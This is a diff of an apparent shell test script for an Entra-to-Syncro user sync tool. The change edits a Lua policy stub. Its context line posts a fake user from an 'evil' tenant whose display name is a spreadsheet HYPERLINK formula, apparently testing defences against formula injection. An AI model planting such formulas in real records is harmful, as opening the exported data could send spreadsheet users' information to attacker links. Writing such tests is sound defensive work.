@@ -23,7 +23,7 @@ fake_ctl "$GURL" POST tenants/evil/users '{"displayName": "=HYPERLINK(\"http://x
   "userPrincipalName": "formula@evil.example", "accountEnabled": false,
   "assignedLicenses": [{"skuId": "05e9a617-0261-4cee-bb44-138d3ef5d965", "disabledPlans": []}]}' >/dev/null
 cd "$W" || exit 1
-echo 'return { include = function(u) return true end }' >pol.lua
+echo 'local p = require "entrasync.policy" return { include = function(u) return true end, contact = p.contact }' >pol.lua
 fake_config es.lua "$GURL" 'base_url = "http://127.0.0.1:9/api/v1", api_key = "k"' pol.lua \
   "  { id = \"$EVIL\", syncro_customer_id = 1 },"
 es --config es.lua --log-level warn pull
